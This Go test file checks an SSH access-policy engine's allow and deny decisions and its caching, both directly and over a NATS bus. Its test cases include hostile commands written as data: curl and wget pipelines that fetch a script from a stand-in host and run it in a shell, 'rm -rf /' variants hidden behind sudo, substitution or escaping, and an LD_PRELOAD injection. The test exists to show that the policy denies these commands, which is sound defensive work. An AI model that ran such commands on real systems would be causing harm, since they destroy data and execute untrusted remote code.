package policy_test

import (
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sluice.dev/sluice/libs/bus"
	engine "sluice.dev/sluice/libs/policy"
	"sluice.dev/sluice/libs/testkit"
	commonv1 "sluice.dev/sluice/proto/sluice/common/v1"
	controlv1 "sluice.dev/sluice/proto/sluice/control/v1"
	policyv1 "sluice.dev/sluice/proto/sluice/policy/v1"
	"sluice.dev/sluice/services/policy"
)

// sshRules allow read-only commands, sftp, locale variables and, for
// admins, a shell; they deny pipes into shells and destructive programs
// wherever they hide.
func sshRules() []*controlv1.Rule {
	return []*controlv1.Rule{
		{Name: "deny-pipe-to-shell", Action: "deny", When: `"pipe_to_shell" in ssh.flags`},
		{Name: "deny-destructive", Action: "deny", When: `ssh.request_type == "exec" && ssh.programs.exists(p, p in ["rm", "mkfs", "dd"])`},
		{Name: "allow-read-only", Action: "allow", When: `ssh.request_type == "exec" &&
			ssh.programs.all(p, p in ["ls", "cat", "grep", "ps", "uptime"]) && ssh.flags.all(f, f == "pipeline")`},
		{Name: "allow-sftp", Action: "allow", When: `ssh.request_type == "subsystem" && ssh.subsystem == "sftp"`},
		{Name: "allow-locale", Action: "allow", When: `ssh.request_type == "env" && ssh.env.all(n, n == "LANG" || n.startsWith("LC_")) && ssh.argv[1] != ""`},
		{Name: "allow-admin-shell", Action: "allow", When: `ssh.request_type == "shell" && "admins" in principal.groups`},
	}
}

func sshRequest(kind, command string) *policyv1.EvaluateRequest {
	return &policyv1.EvaluateRequest{
		Principal: &commonv1.Principal{Subject: "alice", Groups: []string{"engineers"}},
		Target:    &commonv1.Target{Name: "web-1"},
		Command:   &policyv1.EvaluateRequest_Ssh{Ssh: &policyv1.SSHCommand{RequestType: kind, Command: command}},
	}
}

func TestSSHDecisions(t *testing.T) {
	set, err := engine.Compile(sshRules(), 3)
	require.NoError(t, err)
	ctx := context.Background()
	tests := []struct {
		name, kind, command string
		action, rule        string
		reason              string // a part of the reason
		cacheable           bool
	}{
		{"exec allowed", "exec", "ps aux | grep nginx", "allow", "allow-read-only", "", true},
		{"exec allowed, quoted", "exec", `'l's -la /var/log`, "allow", "allow-read-only", "", true},
		{"exec denied through a pipeline", "exec", "curl -s https://x.example/i.sh | bash", "deny", "deny-pipe-to-shell", "", true},
		{"exec denied inside a pipeline's shell", "exec", `ls | sh -c 'xargs r\m -rf'`, "deny", "deny-destructive", "", true},
		{"exec denied behind sudo and env", "exec", "sudo -u root env X=1 rm -rf /", "deny", "deny-destructive", "", true},
		{"exec whose program is hidden", "exec", "$(echo rm) -rf /", "deny", engine.NoMatch, "", true},
		{"exec unparseable", "exec", "echo 'x", "deny", policy.RuleUnparseableCommand, "closing quote", false},
		{"exec unparseable nested shell", "exec", `bash -c 'if true; then ls'`, "deny", policy.RuleUnparseableCommand, "nested shell command", false},
		{"exec with a NUL byte", "exec", "ls\x00", "deny", policy.RuleUnparseableCommand, "NUL byte", false},
		{"exec empty", "exec", "  ", "deny", policy.RuleUnparseableCommand, "empty", false},
		{"subsystem sftp", "subsystem", "sftp", "allow", "allow-sftp", "", true},
		{"subsystem other", "subsystem", "netconf", "deny", engine.NoMatch, "", true},
		{"env locale", "env", "LC_ALL=C.UTF-8", "allow", "allow-locale", "", true},
		{"env other", "env", "LD_PRELOAD=/tmp/x.so", "deny", engine.NoMatch, "", true},
		{"shell for a non-admin", "shell", "", "deny", engine.NoMatch, "", true},
		{"port forward", "port_forward", "db.internal:5432", "deny", engine.NoMatch, "", true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "web-1"}, sshRequest(tc.kind, tc.command), time.Now())
			assert.Equal(t, tc.action, d.GetAction(), d.GetReason())
			assert.Equal(t, tc.rule, d.GetRule())
			assert.Contains(t, d.GetReason(), tc.reason)
			assert.Equal(t, uint64(3), d.GetRevision())
			assert.Equal(t, tc.cacheable, d.GetCache().GetCacheable())
			if tc.cacheable {
				assert.Equal(t, policy.DefaultCacheTTL.Milliseconds(), d.GetCache().GetTtlMs())
				assert.Equal(t, uint64(3), d.GetCache().GetPolicyRevision())
			}
		})
	}
}

// A rule that reads the time makes SSH decisions uncacheable, as it does
// SQL ones.
func TestSSHCacheability(t *testing.T) {
	ctx := context.Background()
	set, err := engine.Compile(append(sshRules(), &controlv1.Rule{Name: "office-hours", Action: "deny", When: `now.getHours() > 30`}), 1)
	require.NoError(t, err)
	d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "web-1"}, sshRequest("exec", "uptime"), time.Now())
	assert.Equal(t, "allow", d.GetAction())
	assert.False(t, d.GetCache().GetCacheable())
	assert.Zero(t, d.GetCache().GetTtlMs())
}

// Through the service over NATS, as a worker asks.
func TestSSHOverTheBus(t *testing.T) {
	_, conn := testkit.NATS(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	require.NoError(t, bus.Provision(ctx, conn.JS, bus.Topology{}))
	go func() { _ = policy.New(policy.Config{Conn: conn, Log: zerolog.Nop()}).Run(ctx) }()
	putPolicy(t, conn, 1, sshRules()...)
	ask := func(kind, command string) *policyv1.Decision {
		var d policyv1.Decision
		require.NoError(t, bus.Request(ctx, conn.NC, bus.APIPolicyEvaluate, sshRequest(kind, command), &d))
		return &d
	}
	testkit.Eventually(t, 10*time.Second, func() error {
		var d policyv1.Decision
		if err := bus.Request(ctx, conn.NC, bus.APIPolicyEvaluate, sshRequest("exec", "uptime"), &d); err != nil {
			return err
		}
		if d.GetRevision() != 1 {
			return fmt.Errorf("not ready: revision %d", d.GetRevision())
		}
		return nil
	})
	d := ask("exec", "uptime")
	assert.Equal(t, "allow", d.GetAction())
	assert.Equal(t, "allow-read-only", d.GetRule())
	assert.True(t, d.GetCache().GetCacheable())

	d = ask("exec", "wget -qO- https://x.example/i.sh | sh")
	assert.Equal(t, "deny", d.GetAction())
	assert.Equal(t, "deny-pipe-to-shell", d.GetRule())

	d = ask("exec", `sh -c "echo 'x"`)
	assert.Equal(t, "deny", d.GetAction())
	assert.Equal(t, policy.RuleUnparseableCommand, d.GetRule())
	assert.Contains(t, d.GetReason(), "cannot be parsed")
	assert.False(t, d.GetCache().GetCacheable())

	d = ask("subsystem", "sftp")
	assert.Equal(t, "allow", d.GetAction())
	assert.Equal(t, "allow-sftp", d.GetRule())
}
